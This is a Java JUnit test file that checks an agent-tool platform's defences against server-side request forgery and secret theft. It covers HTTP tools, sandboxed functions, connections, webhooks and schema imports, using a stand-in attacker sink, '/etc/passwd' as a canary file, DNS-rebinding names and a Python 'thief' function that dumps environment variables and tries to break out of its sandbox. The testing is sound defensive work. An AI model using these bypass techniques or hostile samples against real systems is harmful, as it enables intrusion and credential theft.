package dev.toolwright;

import static dev.toolwright.TestPlatform.function;
import static dev.toolwright.TestPlatform.http;
import static dev.toolwright.TestPlatform.json;
import static dev.toolwright.TestPlatform.name;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.sun.net.httpserver.HttpExchange;
import dev.toolwright.egress.EgressRules;
import dev.toolwright.egress.Resolver;
import dev.toolwright.json.Json;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.SocketException;
import java.net.URLDecoder;
import java.net.UnknownHostException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.Callable;
import java.util.concurrent.Executors;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ObjectNode;

/// The catalogue of requests that must get nowhere, through every surface that takes an address:
/// HTTP tools, functions, connections, webhooks. 127.66.0.0/16 plays the internet; canaries on the
/// real loopback addresses count whoever connects, and the last word is theirs.
@SuppressWarnings("NullAway.Init")
@Timeout(600)
class SsrfCatalogueTest {
  private static final String SECRET = "sk-canary-0123456789abcdef";
  private static final AtomicInteger ACCEPTED = new AtomicInteger();
  private static final AtomicInteger FLIPS = new AtomicInteger();
  private static TestPlatform platform;
  private static Remote internet;
  private static Remote attacker;
  private static ServerSocket canary;
  private static List<ServerSocket> canaries;

  @BeforeAll
  static void open() throws IOException {
    canary = new ServerSocket(0, 50, InetAddress.ofLiteral("127.0.0.1"));
    canaries = new ArrayList<>(List.of(canary));
    try {
      canaries.add(new ServerSocket(canary.getLocalPort(), 50, InetAddress.ofLiteral("::1")));
    } catch (IOException e) {
      // a machine without IPv6
    }
    canaries.forEach(socket -> Thread.startVirtualThread(() -> count(socket)));
    internet = new Remote("127.66.0.1");
    attacker = new Remote("127.66.0.9");
    for (var path : List.of("/302", "/307")) {
      internet.at(path, (exchange, _) -> redirect(exchange, Integer.parseInt(path.substring(1))));
    }
    internet.at(
        "/refresh-header",
        (exchange, _) -> {
          exchange.getResponseHeaders().set("Refresh", "0; url=" + target(exchange));
          Remote.send(exchange, 200, "{}");
        });
    platform = new TestPlatform(Map.of("TOOLWRIGHT_EGRESS_ALLOW", "127.66.0.0/16"), Names.RESOLVER);
  }

  private static void count(ServerSocket socket) {
    while (!socket.isClosed()) {
      try (var accepted = socket.accept()) {
        ACCEPTED.incrementAndGet();
        assertThat(accepted.isConnected()).isTrue();
      } catch (SocketException e) {
        return;
      } catch (IOException e) {
        throw new IllegalStateException(e);
      }
    }
  }

  private static String target(HttpExchange exchange) {
    var query = exchange.getRequestURI().getRawQuery();
    return URLDecoder.decode(query.substring("to=".length()), StandardCharsets.UTF_8);
  }

  private static void redirect(HttpExchange exchange, int status) throws IOException {
    exchange.getResponseHeaders().set("Location", target(exchange));
    Remote.send(exchange, status, "");
  }

  @AfterAll
  static void close() throws IOException {
    platform.close();
    internet.close();
    attacker.close();
    for (var socket : canaries) {
      socket.close();
    }
  }

  @BeforeEach
  void forget() {
    ACCEPTED.set(0);
  }

  @AfterEach
  void nobody_reached_the_inside_nor_took_a_secret_out() {
    assertThat(ACCEPTED).as("connections to the canaries").hasValue(0);
    assertThat(attacker.count()).as("requests to the attacker").isZero();
  }

  /// What names mean, as scripted.
  private static final class Names {
    static final Resolver RESOLVER = Names::resolve;

    private static InetAddress[] resolve(String host) throws UnknownHostException {
      return Stream.of(addresses(host)).map(InetAddress::ofLiteral).toArray(InetAddress[]::new);
    }

    private static String[] addresses(String host) throws UnknownHostException {
      return switch (host) {
        case "public.test" -> list("127.66.0.1");
        case "attacker.test" -> list("127.66.0.9");
        case "localhost", "localhost.localdomain" -> list("127.0.0.1", "::1");
        case "a-loop.zone.test", "cname-loop.zone.test", "127.0.0.1.nip.zone.test" ->
            list("127.0.0.1");
        case "aaaa-loop.zone.test", "ip6-localhost" -> list("::1");
        case "mixed.zone.test" -> list("127.66.0.1", "10.0.0.1");
        case "mixed6.zone.test" -> list("127.66.0.1", "fd00::1");
        case "many.zone.test" ->
            Stream.concat(
                    IntStream.range(1, 200).mapToObj(i -> "127.66.1." + i), Stream.of("127.0.0.1"))
                .toArray(String[]::new);
        case "rebind.zone.test" ->
            list(FLIPS.getAndIncrement() % 2 == 0 ? "127.66.0.77" : "127.0.0.1");
        default -> {
          if (host.equals(ownName())) {
            yield list("127.0.0.1");
          }
          throw new UnknownHostException(host);
        }
      };
    }

    private static String[] list(String... addresses) {
      return addresses;
    }

    static String ownName() {
      return "this-host";
    }
  }

  private static JsonNode row(String id) {
    return rows().stream()
        .filter(r -> r.path("id").asString().equals(id))
        .findFirst()
        .orElseThrow();
  }

  private static List<JsonNode> rows() {
    try (var in = SsrfCatalogueTest.class.getResourceAsStream("/attacks/ssrf_egress.jsonl")) {
      assertThat(in).isNotNull();
      var text = new String(in.readAllBytes(), StandardCharsets.UTF_8);
      return text.lines().map(Json::stored).toList();
    } catch (IOException e) {
      throw new IllegalStateException(e);
    }
  }

  private static String filled(String text) {
    return text.replaceFirst(" \\(.*\\)$", "")
        .replace("@@LOOPCANARY_PORT@@", Integer.toString(canary.getLocalPort()))
        .replace("@@SERVER_PORT@@", Integer.toString(platform.address.getPort()))
        .replace(
            "@@DB_PORT@@",
            platform
                .database
                .address()
                .jdbcUrl()
                .replaceAll("\\D*:(\\d+)/.*|.*?:(\\d+)/.*", "$1$2"))
        .replace("@@MY_HOSTNAME@@", Names.ownName())
        .replace("@@PUBLIC_HOST@@", "public.test:" + internet.port())
        .replace("@@TEST_ZONE@@", "zone.test")
        .replace("@@SINK_DOMAIN@@", "attacker.test")
        .replace("@@SINK@@", "127.66.0.9:" + attacker.port())
        .replace("@@CANARY_FILE@@", "/etc/passwd");
  }

  /// Every address of the cases that consist of addresses.
  static Stream<String> addresses() {
    return Stream.of(
            "SS-01", "SS-03", "SS-05", "SS-06", "SS-08", "SS-10", "SS-11", "SS-13", "SS-25")
        .flatMap(id -> row(id).path("payload").valueStream())
        .map(node -> filled(node.asString()));
  }

  @Test
  void the_catalogue_is_whole() {
    assertThat(rows()).hasSize(17);
    assertThat(addresses()).hasSizeGreaterThan(65).noneMatch(url -> url.contains("@@"));
  }

  @Test
  void what_is_allowed_is_reached_so_that_a_refusal_means_something() {
    var url = "http://public.test:" + internet.port() + "/fine";
    assertThat(called(tool(url)).path("success").asBoolean()).isTrue();
    for (var language : List.of("python", "javascript")) {
      assertThat(called(fetching(language, url)).path("success").asBoolean()).isTrue();
    }
    assertThat(tested(url).path("success").asBoolean()).as(tested(url).toString()).isTrue();
  }

  private static ObjectNode tool(String url) {
    var tool = http(name("ssrf"), "GET", url);
    ((ObjectNode) tool.path("implementation"))
        .putObject("auth")
        .put("type", "bearer")
        .put("token", SECRET);
    return tool;
  }

  /// A function that lists the very host that it will ask for, if a host can be listed so.
  private static ObjectNode fetching(String language, String url) {
    var code =
        language.equals("python")
            ? "def run(p, c): return c.fetch(p['u'], headers={'X-Key': '{{key}}'}).status"
            : "return (await context.fetch(params.u, {headers: {'X-Key': '{{key}}'}})).status";
    var tool = function(name("ssrf"), code);
    var implementation = (ObjectNode) tool.path("implementation");
    implementation.put("language", language).remove("function_name");
    var parts = url.split("[/?#]", -1);
    var origin = parts.length > 2 ? parts[0] + "//" + parts[2] : url;
    implementation.putArray("allowed_hosts").add("http://public.test:" + internet.port());
    if (EgressRules.isHost(origin)) {
      implementation.withArray("allowed_hosts").add(origin);
    }
    implementation.putObject("secrets").put("key", SECRET);
    return tool.put("url", url);
  }

  /// What a call answers, or the refusal of saving the tool.
  private static JsonNode called(ObjectNode tool) {
    var given = Json.object();
    if (tool.has("url")) {
      given.set("u", tool.remove("url"));
    }
    // A busy machine needs some time to read code.
    var made =
        await()
            .atMost(Duration.ofMinutes(2))
            .until(
                () -> platform.post(platform.ada, "/agents/tools/create", tool),
                answer -> answer.status() != 503);
    if (made.status() == 400) {
      return made.body();
    }
    made.as(200);
    return platform.test(platform.ada, tool.path("name").asString(), given);
  }

  private static JsonNode tested(String url) {
    var body = Json.object().put("name", name("ssrf")).put("base_url", url);
    body.putObject("auth").put("type", "bearer").put("token", SECRET);
    var made = platform.post(platform.ada, "/api/connections", body);
    if (made.status() == 400) {
      return made.body();
    }
    var id = made.as(201).at("/connection/id").asString();
    return platform.post(platform.ada, "/api/connections/" + id + "/test", Json.object()).as(200);
  }

  private static void assertNoSecret(JsonNode answer) {
    assertThat(answer.toString()).doesNotContain(SECRET);
  }

  @ParameterizedTest
  @MethodSource("addresses")
  void an_http_tool_gets_nowhere(String url) {
    var answer = called(tool(url));
    assertNoSecret(answer);
    if (!url.contains("refresh-header") && answer.has("success")) {
      assertThat(answer.path("error_type").asString()).as(url).isEqualTo("permission_error");
    }
  }

  @ParameterizedTest
  @MethodSource("addresses")
  void a_python_function_gets_nowhere(String url) {
    var answer = called(fetching("python", url));
    assertNoSecret(answer);
    if (!url.contains("refresh-header")) {
      // A name that leads elsewhere each time may lead to where nobody is.
      assertThat(answer.path("error").asString()).as(url).matches("(Fetch|Connection)Error: .*");
    }
  }

  @Test
  void a_javascript_function_gets_nowhere() {
    var reached = fetching("javascript", "http://public.test:" + internet.port() + "/fine");
    await()
        .atMost(Duration.ofMinutes(2))
        .until(
            () -> called(reached.deepCopy().put("name", name("ssrf"))).path("success").asBoolean());
    for (var url : addresses().toList()) {
      var answer = called(fetching("javascript", url));
      assertNoSecret(answer);
      if (!url.contains("refresh-header")) {
        assertThat(answer.path("error").asString()).as(url).contains("FetchError");
      }
    }
  }

  @Test
  void a_connection_gets_nowhere() {
    for (var url : addresses().toList()) {
      var answer = tested(url);
      assertNoSecret(answer);
      if (!url.contains("refresh-header")) {
        assertThat(answer.path("success").asBoolean()).as(url).isFalse();
      }
    }
  }

  @Test
  void a_name_that_means_something_else_each_time_gets_nowhere() throws Exception {
    var url = filled(row("SS-11").path("payload").get(0).asString());
    var made = fetching("python", url);
    made.remove("url");
    platform.tool(platform.ada, made);
    var plain = tool(url);
    platform.tool(platform.ada, plain);
    Callable<JsonNode> call =
        () -> {
          var fetch = FLIPS.get() % 3 == 0;
          return platform.test(
              platform.ada,
              (fetch ? made : plain).path("name").asString(),
              Json.object().put("u", url));
        };
    try (var callers = Executors.newFixedThreadPool(20)) {
      for (var answer : callers.invokeAll(java.util.Collections.nCopies(200, call))) {
        assertThat(answer.get().path("success").asBoolean()).isFalse();
      }
    }
  }

  @Test
  void an_argument_moves_no_request_elsewhere() {
    var payload = row("SS-15").path("payload");
    for (var template : payload.path("urlTemplate")) {
      var url = filled(template.asString()).replace("https:", "http:");
      var tool = tool(url);
      var made = platform.post(platform.ada, "/agents/tools/create", tool);
      if (made.status() == 400) {
        assertThat(url.split("/", -1)[2]).as(url).contains("{{");
        continue;
      }
      for (var argument : payload.path("args")) {
        var before = internet.count();
        var given = Json.object();
        var text = filled(argument.asString()).replace("\\r\\n", "\r\n");
        given.putObject("parameters").put("path", text).put("q", text);
        var path = "/agents/tools/" + tool.path("name").asString() + "/test";
        var answer = platform.post(platform.ada, path, given);
        assertThat(answer.status()).as(text).isIn(200, 422);
        if (internet.count() > before) {
          var request = internet.last();
          assertThat(request.target())
              .as(text)
              .matches("/(v1\\?cb=|)[^/?#&]*(\\?q=[^/?#&]*)?(\\&path=[^/?#&]*)?");
          assertThat(request.header("X-evil")).isNull();
          assertThat(request.header("Host")).startsWith("public.test:");
        }
      }
    }
  }

  @Test
  void a_header_steers_nothing() {
    for (var headers : row("SS-16").path("payload").path("headers")) {
      var url = "http://public.test:" + internet.port() + "/headers";
      var tool = http(name("ssrf"), "GET", url);
      ((ObjectNode) tool.path("implementation")).set("headers", headers);
      var before = internet.count();
      var answer = called(tool);
      var fetch =
          function(name("ssrf"), "def run(p, c): return c.fetch(p['u'], headers=p['h']).status");
      var implementation = (ObjectNode) fetch.path("implementation");
      implementation.putArray("allowed_hosts").add("http://public.test:" + internet.port());
      platform.tool(platform.ada, fetch);
      var given = Json.object().put("u", url);
      given.set("h", headers);
      var fetched = platform.test(platform.ada, fetch.path("name").asString(), given);
      var name = headers.propertyNames().iterator().next();
      var value = headers.get(name).asString();
      if (internet.count() == before) {
        assertThat(answer.toString() + fetched).as(headers.toString()).doesNotContain(": 2\"");
        continue;
      }
      assertThat(name).isIn("X-Forwarded-For", "Cookie");
      var request = internet.last();
      assertThat(request.header(name)).isEqualTo(value);
      assertThat(request.header("X-evil")).isNull();
      assertThat(request.header("Host")).startsWith("public.test:");
    }
  }

  @Test
  void a_webhook_gets_nowhere() {
    var agent = platform.agent(platform.ada);
    var urls = new ArrayList<String>();
    for (var url : row("SS-18").path("payload").path("callbackUrl")) {
      urls.add(filled(url.asString()));
    }
    for (var url : urls) {
      var job =
          platform.execute(
              platform.ada,
              json("{'message':'SAY done','webhook_secret':'" + SECRET + "'}")
                  .put("agent_id", agent)
                  .put("webhook_url", url));
      platform.until(platform.ada, job, "completed");
    }
    await()
        .atMost(Duration.ofSeconds(60))
        .untilAsserted(() ->
            assertThat(
                    platform.one(
                        "select count(*) from delivery where last_error is not null",
                        Integer.class))
                .isEqualTo(urls.size()));
    assertThat(
            platform.one("select count(*) from delivery where state = 'delivered'", Integer.class))
        .isZero();
  }

  @Test
  void a_schema_is_never_fetched() {
    var schema = row("SS-20").path("payload").path("jsonSchema");
    var tool = function(name("ssrf"), "def run(p, c): return 1");
    var filled = Json.object();
    schema
        .properties()
        .forEach(entry -> filled.put(entry.getKey(), filled(entry.getValue().asString())));
    tool.set("parameters_schema", filled);
    assertThat(called(tool).toString()).doesNotContain("root:");
    tool.set(
        "parameters_schema",
        Json.object().put("type", "object").set("properties", Json.object().set("a", filled)));
    assertThat(called(tool.put("name", name("ssrf"))).toString()).doesNotContain("root:");
  }

  @Test
  void a_document_is_imported_from_nowhere_it_may_not_be_and_what_it_names_is_never_fetched() {
    var payload = row("SS-20").path("payload");
    var path = "/api/custom-tools/connectors/import";
    var address = filled(payload.path("openapiUrl").asString());
    var fetched =
        platform.post(
            platform.ada, path, Json.object().put("name", name("ssrf")).put("url", address));
    assertThat(fetched.status()).as(fetched.text()).isIn(400, 403, 422, 502);
    var document = (ObjectNode) Json.stored(filled(Json.write(payload.path("openapi"))));
    document.putObject("info").put("title", "t").put("version", "1");
    var given =
        platform.post(
            platform.ada,
            path,
            Json.object().put("name", name("ssrf")).put("content", Json.write(document)));
    assertThat(given.status()).as(given.text()).isIn(201, 400, 422);
    assertThat(given.text()).doesNotContain("root:");
  }

  @Test
  void what_nobody_may_set_is_refused_and_not_fetched() {
    var base = row("SS-23").path("payload").path("baseUrl");
    for (var url : base) {
      var agent = Json.object().put("name", "x").put("instructions", "x");
      agent.put("base_url", filled(url.asString()));
      platform.post(platform.ada, "/agents/create", agent).as(400);
    }
    for (var icon : row("SS-26").path("payload").properties()) {
      var tool = function(name("ssrf"), "def run(p, c): return 1");
      tool.set(icon.getKey(), icon.getValue());
      platform.post(platform.ada, "/agents/tools/create", tool).as(400);
      var described = function(name("ssrf"), "def run(p, c): return 1");
      described.put("description", filled(icon.getValue().toString()));
      platform.tool(platform.ada, described);
    }
    var kafka = Json.object().put("name", name("ssrf")).put("tool_type", "stream");
    kafka.set("implementation", row("SS-21").path("payload"));
    platform.post(platform.ada, "/agents/tools/create", kafka).as(400);
  }

  /// SS-28: the way out belongs to one call of one tool.
  @Test
  void a_function_cannot_use_what_another_one_may_reach() {
    var url = "http://public.test:" + internet.port() + "/secret-place";
    platform.tool(platform.ada, reduced(fetching("python", url)));
    var code =
        """
        import os, gc
        def run(p, context):
            found = [str(dict(os.environ))]
            outside = context.fetch.__self__
            outside._allowed = True
            try:
                found.append(context.fetch(p['u'], headers={'X-Key': '{{key}}'}).status)
            except Exception as e:
                found.append(str(e))
            for fd in range(3, 40):
                try:
                    os.write(fd, b'F\\x00\\x00\\x00\\x02{}')
                except OSError:
                    pass
            return found
        """;
    var thief = function(name("ssrf"), code);
    platform.tool(platform.ada, thief);
    var before = internet.count();
    var answer =
        platform.test(platform.ada, thief.path("name").asString(), Json.object().put("u", url));
    assertThat(answer.path("success").asBoolean()).isFalse();
    assertNoSecret(answer);
    assertThat(internet.count()).isEqualTo(before);

    var other = fetching("python", "http://attacker.test:" + attacker.port() + "/");
    ((ObjectNode) other.path("implementation")).putArray("allowed_hosts").add("api.example.com");
    assertThat(called(other).path("error").asString())
        .contains("not among the tool's allowed_hosts");
  }

  private static ObjectNode reduced(ObjectNode tool) {
    tool.remove("url");
    return tool;
  }
}
